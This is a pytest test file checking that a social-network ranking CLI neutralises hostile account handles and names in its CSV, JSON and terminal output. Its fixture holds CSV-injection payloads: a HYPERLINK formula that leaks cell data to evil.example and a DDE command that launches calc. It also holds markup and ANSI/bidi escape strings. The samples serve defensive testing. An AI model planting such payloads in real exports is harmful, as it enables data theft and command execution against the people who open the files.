"""Text from the data never acts on the person reading an output (issue 11, point 3)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from einfluence import Workspace
from einfluence.cli import app
from einfluence.io import Records

runner = CliRunner()

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@-SUM(1+1)", "-2+3"]
MARKUP = "[bold red]X[/bold red][link=http://evil.example]x[/link]"
ESCAPE = "esc\x1b[2Jape\u202eevil"
HOSTILE = [*FORMULAS, MARKUP, ESCAPE]
#: the ids of the accounts that have no handle and a hostile name
NAMED = {f"n{i}" for i in range(len(HOSTILE))}


@pytest.fixture
def db(tmp_path):
    """Accounts whose handles are hostile, and accounts without a handle whose names are (shown
    by name: ``n0``... are their ids)."""
    path = tmp_path / "hostile.duckdb"
    targets = [f"t{i}" for i in range(len(HOSTILE))] + [f"n{i}" for i in range(len(HOSTILE))]
    fans = [f"fan{j}" for j in range(6)]
    with Workspace(path) as ws:
        ws.add_records(Records.from_columns(
            accounts={"network": "x", "id": targets, "handle": [*HOSTILE, *[None] * len(HOSTILE)],
                      "name": [*[None] * len(HOSTILE), *HOSTILE]},
            interactions={"network": "x", "src": [f for _ in targets for f in fans],
                          "dst": [t for t in targets for _ in fans], "kind": "relay"},
        ))
    return path


def _run(*args: str):
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.mark.parametrize("column", ["handle", "name"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(db, column):
    rows = list(csv.DictReader(io.StringIO(_run("rank", "--db", str(db), "--format", "csv", "--limit", "0"))))
    cells = {row[column] for row in rows}
    for formula in FORMULAS[:3]:
        assert "'" + formula in cells and formula not in cells
    assert "-2+3" not in cells and "'-2+3" in cells  # not a number, so neutralised too
    assert all(not row["score"].startswith("'") for row in rows)  # numbers are left alone
    # a named account keeps its id beside its name
    assert {row["account"] for row in rows if row["name"]} == NAMED


def test_json_keeps_the_raw_values(db):
    rows = json.loads(_run("rank", "--db", str(db), "--format", "json", "--limit", "0"))
    assert {r["handle"] for r in rows} >= set(HOSTILE)
    assert {r["name"] for r in rows} >= set(HOSTILE)
    assert {r["account"] for r in rows if r["name"]} == NAMED


def test_terminal_output_prints_markup_literally_and_control_characters_visibly(db):
    table = _run("rank", "--db", str(db), "--limit", "0")
    assert "[link=http://evil.example]" in table and "[bold red]" in table
    assert "\x1b" not in table and "\u202e" not in table
    assert "@esc\\x1b[2Jape\\u202eevil" in table  # the handle
    # the names, shown where a handle would be (no id: n0... are not in the table)
    assert " esc\\x1b[2Jape\\u202eevil " in table and table.count("[link=http://evil.example]") == 2
    assert "+cmd|' /C calc'!A0" in table and " n0 " not in table


def test_errors_show_control_characters_visibly(db):
    result = runner.invoke(app, ["explain", "nobody\x1b[2J", "--db", str(db)])
    assert result.exit_code == 1 and "\x1b" not in result.stderr and "\\x1b[2J" in result.stderr
